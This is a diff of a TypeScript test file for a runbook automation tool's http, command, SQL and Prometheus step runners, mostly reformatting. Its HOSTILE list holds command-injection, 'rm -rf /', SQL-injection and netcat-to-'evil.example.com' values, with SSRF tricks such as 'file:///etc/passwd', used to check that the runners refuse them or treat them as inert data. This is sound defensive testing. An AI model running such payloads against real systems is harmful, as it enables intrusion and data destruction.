@@ -18,10 +18,30 @@ beforeAll(() => target.start());
 afterAll(() => target.stop());
 beforeEach(() => target.reset());
 
-function ctx(step: Record<string, unknown>, labels: Record<string, string>, signal = new AbortController().signal, timeoutMs = 5_000): StepRunContext {
+function ctx(
+  step: Record<string, unknown>,
+  labels: Record<string, string>,
+  signal = new AbortController().signal,
+  timeoutMs = 5_000,
+): StepRunContext {
   const parsed = runbookOf({ steps: [{ id: 's', ...step }] }).steps[0] as AnyStep;
-  const scope: TemplateScope = { alert: { labels, annotations: {} }, context: {}, params: {}, steps: {}, execution: { id: 'e', mode: 'live', runbookId: 'r', trigger: 'alert' }, vars: {} };
-  return { step: parsed, scope, signal, timeoutMs, execution: { id: 'e', requestId: 'q', runbookId: 'r', mode: 'live', trigger: 'alert', severity: 'critical' }, attempt: 1, clock: systemClock };
+  const scope: TemplateScope = {
+    alert: { labels, annotations: {} },
+    context: {},
+    params: {},
+    steps: {},
+    execution: { id: 'e', mode: 'live', runbookId: 'r', trigger: 'alert' },
+    vars: {},
+  };
+  return {
+    step: parsed,
+    scope,
+    signal,
+    timeoutMs,
+    execution: { id: 'e', requestId: 'q', runbookId: 'r', mode: 'live', trigger: 'alert', severity: 'critical' },
+    attempt: 1,
+    clock: systemClock,
+  };
 }
 
 const HOSTILE = ['$(id)', '; rm -rf /', '`reboot`', "'; DROP TABLE x; --", '| nc evil.example.com 4444', '-rf'];
@@ -38,9 +58,13 @@ describe('http steps', () => {
 
   it('refuses hosts outside FIREBREAK_RUNBOOK_HTTP_ALLOW, including tricks, before any request', async () => {
     for (const instance of ['evil.example.com', '127.0.0.1.nip.io', 'api.internal:80', 'localhost']) {
-      await expect(http.run(ctx({ uses: 'http', with: { url: 'http://{{ alert.labels.instance }}/x' } }, { instance }))).rejects.toThrow(/refused \(http-allow\)/);
+      await expect(http.run(ctx({ uses: 'http', with: { url: 'http://{{ alert.labels.instance }}/x' } }, { instance }))).rejects.toThrow(
+        /refused \(http-allow\)/,
+      );
     }
-    await expect(http.run(ctx({ uses: 'http', with: { url: 'http://{{ alert.labels.i }}/x' } }, { i: '127.0.0.1@evil.example.com' }))).rejects.toThrow(RefusedError);
+    await expect(
+      http.run(ctx({ uses: 'http', with: { url: 'http://{{ alert.labels.i }}/x' } }, { i: '127.0.0.1@evil.example.com' })),
+    ).rejects.toThrow(RefusedError);
     await expect(http.run(ctx({ uses: 'http', with: { url: 'file:///etc/passwd' } }, {}))).rejects.toThrow(/scheme file:/);
     expect(target.requests).toHaveLength(0);
   });
@@ -48,8 +72,14 @@ describe('http steps', () => {
   it('fails on an unexpected status (retryable for 5xx) and never follows a redirect off the allow-list', async () => {
     target.on('GET', '/down', () => ({ status: 503 }));
     target.on('GET', '/moved', () => ({ status: 302, headers: { location: 'http://evil.example.com/' } }));
-    await expect(http.run(ctx({ uses: 'http', with: { url: `${target.url}/down` } }, {}))).rejects.toMatchObject({ retryable: true, message: expect.stringContaining('HTTP 503') });
-    await expect(http.run(ctx({ uses: 'http', with: { url: `${target.url}/moved` } }, {}))).rejects.toMatchObject({ retryable: false, message: expect.stringContaining('HTTP 302') });
+    await expect(http.run(ctx({ uses: 'http', with: { url: `${target.url}/down` } }, {}))).rejects.toMatchObject({
+      retryable: true,
+      message: expect.stringContaining('HTTP 503'),
+    });
+    await expect(http.run(ctx({ uses: 'http', with: { url: `${target.url}/moved` } }, {}))).rejects.toMatchObject({
+      retryable: false,
+      message: expect.stringContaining('HTTP 302'),
+    });
   });
 
   it('stops the request when aborted', async () => {
@@ -68,14 +98,20 @@ describe('command steps', () => {
 
   it('passes hostile values as single inert argv entries, never through a shell', async () => {
     for (const value of HOSTILE.filter((v) => !v.startsWith('-'))) {
-      const result = await command.run(ctx({ uses: 'command', with: { path: '/bin/echo', args: ['service=', '{{ alert.labels.s }}'] } }, { s: value }));
+      const result = await command.run(
+        ctx({ uses: 'command', with: { path: '/bin/echo', args: ['service=', '{{ alert.labels.s }}'] } }, { s: value }),
+      );
       expect(result.outputs.stdout).toBe(`service= ${value}`);
     }
   });
 
   it('refuses an executable not allow-listed and a value that would become an option', async () => {
-    await expect(command.run(ctx({ uses: 'command', with: { path: '/bin/sh', args: ['-c', 'id'] } }, {}))).rejects.toThrow(/refused \(command-allow\): \/bin\/sh is not in FIREBREAK_RUNBOOK_COMMANDS_ALLOW/);
-    await expect(command.run(ctx({ uses: 'command', with: { path: '/bin/echo', args: ['{{ alert.labels.s }}'] } }, { s: '-rf' }))).rejects.toThrow(/refused \(command-arg\)/);
+    await expect(command.run(ctx({ uses: 'command', with: { path: '/bin/sh', args: ['-c', 'id'] } }, {}))).rejects.toThrow(
+      /refused \(command-allow\): \/bin\/sh is not in FIREBREAK_RUNBOOK_COMMANDS_ALLOW/,
+    );
+    await expect(
+      command.run(ctx({ uses: 'command', with: { path: '/bin/echo', args: ['{{ alert.labels.s }}'] } }, { s: '-rf' })),
+    ).rejects.toThrow(/refused \(command-arg\)/);
   });
 
   it('gives the command a minimal environment', async () => {
@@ -103,7 +139,12 @@ describe('sql steps', () => {
     admin = new DataSource({ type: 'postgres', url });
     await admin.initialize();
     await admin.query(`CREATE SCHEMA "${schema}"; CREATE TABLE "${schema}".notes (body text)`);
-    sql = new SqlStepRunner(new Map([['main', { name: 'main', url, readOnly: false }], ['ro', { name: 'ro', url, readOnly: true }]]));
+    sql = new SqlStepRunner(
+      new Map([
+        ['main', { name: 'main', url, readOnly: false }],
+        ['ro', { name: 'ro', url, readOnly: true }],
+      ]),
+    );
   });
   afterAll(async () => {
     await sql.close();
@@ -113,16 +154,23 @@ describe('sql steps', () => {
 
   it('binds values as parameters: SQL in a label is stored as text', async () => {
     const insert = `INSERT INTO "${schema}".notes (body) VALUES ($1)`;
-    for (const value of HOSTILE) await sql.run(ctx({ uses: 'sql', with: { connection: 'main', statement: insert, params: ['{{ alert.labels.v }}'] } }, { v: value }));
+    for (const value of HOSTILE)
+      await sql.run(ctx({ uses: 'sql', with: { connection: 'main', statement: insert, params: ['{{ alert.labels.v }}'] } }, { v: value }));
     const rows = await admin.query(`SELECT body FROM "${schema}".notes ORDER BY body`);
     expect(rows.map((r: { body: string }) => r.body).sort()).toEqual([...HOSTILE].sort());
   });
 
   it('returns rows, honours read-only connections and reports unknown connections', async () => {
-    const result = await sql.run(ctx({ uses: 'sql', with: { connection: 'ro', statement: `SELECT count(*)::int AS n FROM "${schema}".notes` } }, {}));
+    const result = await sql.run(
+      ctx({ uses: 'sql', with: { connection: 'ro', statement: `SELECT count(*)::int AS n FROM "${schema}".notes` } }, {}),
+    );
     expect(result.outputs).toMatchObject({ rowCount: 1, rows: [{ n: HOSTILE.length }] });
-    await expect(sql.run(ctx({ uses: 'sql', with: { connection: 'ro', statement: `DELETE FROM "${schema}".notes` } }, {}))).rejects.toThrow(/read-only transaction/);
-    await expect(sql.run(ctx({ uses: 'sql', with: { connection: 'nope', statement: 'SELECT 1' } }, {}))).rejects.toMatchObject({ retryable: false });
+    await expect(sql.run(ctx({ uses: 'sql', with: { connection: 'ro', statement: `DELETE FROM "${schema}".notes` } }, {}))).rejects.toThrow(
+      /read-only transaction/,
+    );
+    await expect(sql.run(ctx({ uses: 'sql', with: { connection: 'nope', statement: 'SELECT 1' } }, {}))).rejects.toMatchObject({
+      retryable: false,
+    });
   });
 
   it('runs maintenance outside a transaction (VACUUM ANALYZE)', async () => {
@@ -132,12 +180,16 @@ describe('sql steps', () => {
 });
 
 describe('prometheus steps', () => {
-  const vector = (value: string) => ({ body: { status: 'success', data: { resultType: 'vector', result: [{ metric: { instance: 'api-1' }, value: [1, value] }] } } });
+  const vector = (value: string) => ({
+    body: { status: 'success', data: { resultType: 'vector', result: [{ metric: { instance: 'api-1' }, value: [1, value] }] } },
+  });
 
   it('sends the query with escaped values and checks the expectation', async () => {
     target.on('POST', '/api/v1/query', () => vector('1'));
     const prometheus = new PrometheusStepRunner(target.url);
-    const result = await prometheus.run(ctx({ uses: 'prometheus', with: { query: 'up{instance="{{ alert.labels.i }}"}', expect: '== 1' } }, { i: 'x"} or vector(1) #' }));
+    const result = await prometheus.run(
+      ctx({ uses: 'prometheus', with: { query: 'up{instance="{{ alert.labels.i }}"}', expect: '== 1' } }, { i: 'x"} or vector(1) #' }),
+    );
     expect(result.outputs).toMatchObject({ value: 1 });
     expect(target.requests[0].body).toEqual({ query: 'up{instance="x\\"} or vector(1) #"}' });
   });
@@ -146,10 +198,14 @@ describe('prometheus steps', () => {
     let calls = 0;
     target.on('POST', '/api/v1/query', () => vector(++calls >= 2 ? '1' : '0'));
     const prometheus = new PrometheusStepRunner(target.url);
-    const held = await prometheus.run(ctx({ uses: 'prometheus', with: { query: 'up', expect: '== 1', holdFor: '200ms', interval: '100ms' } }, {}));
+    const held = await prometheus.run(
+      ctx({ uses: 'prometheus', with: { query: 'up', expect: '== 1', holdFor: '200ms', interval: '100ms' } }, {}),
+    );
     expect(held.outputs.heldForMs).toBeGreaterThanOrEqual(200);
     target.on('POST', '/api/v1/query', () => vector('0'));
     await expect(prometheus.run(ctx({ uses: 'prometheus', with: { query: 'up', expect: '== 1' } }, {}))).rejects.toThrow(StepFailure);
-    await expect(new PrometheusStepRunner(undefined).run(ctx({ uses: 'prometheus', with: { query: 'up', expect: '== 1' } }, {}))).rejects.toThrow(/PROMETHEUS_URL is not set/);
+    await expect(
+      new PrometheusStepRunner(undefined).run(ctx({ uses: 'prometheus', with: { query: 'up', expect: '== 1' } }, {})),
+    ).rejects.toThrow(/PROMETHEUS_URL is not set/);
   });
 });
